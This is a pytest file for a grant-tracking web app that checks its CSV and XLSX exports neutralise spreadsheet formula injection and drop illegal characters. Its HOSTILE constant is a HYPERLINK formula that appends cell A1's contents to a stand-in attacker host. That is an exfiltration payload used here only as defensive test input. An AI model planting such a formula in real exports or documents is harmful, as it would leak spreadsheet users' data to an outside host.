"""No export is a weapon: a text that a spreadsheet would run as a formula stays text, and characters that XLSX
cannot hold are dropped, in every CSV and XLSX download."""

import csv
import io

import pytest
from openpyxl import load_workbook

from fundtrack import demo
from fundtrack.applications.models import Application
from fundtrack.db import db
from fundtrack.feeds.models import Call
from fundtrack.funders.models import Funder
from fundtrack.organisations.models import Organisation
from fundtrack.projects.models import Project
from fundtrack.spreadsheets import safe_cell
from tests.conftest import NOW, login

HOSTILE = '=HYPERLINK("http://angriber.example/"&A1,"Klik")\x0b'
EXPORTS = [
    "/applications/export",
    "/deadlines/export",
    "/calls/export",
    "/fees/export",
    "/funders/export",
    "/instalments/export",
    "/organisations/export",
    "/projects/export",
    "/relationships/export",
    "/reports/2026-Q4",
]


@pytest.mark.parametrize(
    "text, kept",
    [
        ("=1+1", "'=1+1"),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-Ung i job", "'-Ung i job"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("Café\x0b Kornet\x00", "Café Kornet"),
        ("Almindelig tekst", "Almindelig tekst"),
        (-5, -5),
    ],
)
def test_a_cell_is_neutralised_and_cleaned(text, kept):
    assert safe_cell(text) == kept


@pytest.fixture
def hostile(app):
    with db.connection_context():
        demo.load(today=NOW.date(), now=NOW)
    for model, field in ((Application, "title"), (Funder, "name"), (Organisation, "name"), (Call, "title"), (Project, "name")):
        for record in model.select(model.id):  # as if they had come in from a feed or an old import
            model.update({field: f"{HOSTILE} {record.id}"}).where(model.id == record.id).execute()


@pytest.mark.parametrize("address", EXPORTS)
def test_no_download_holds_a_live_formula_or_an_illegal_character(client, hostile, address):
    from fundtrack.auth.models import User

    login(client, User.get(User.email == "fundraiser@example.dk"), password="demo")
    text = client.get(f"{address}.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], address
    assert "\x0b" not in text
    workbook = load_workbook(io.BytesIO(client.get(f"{address}.xlsx").data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (address, sheet.title, cell.coordinate, cell.value)
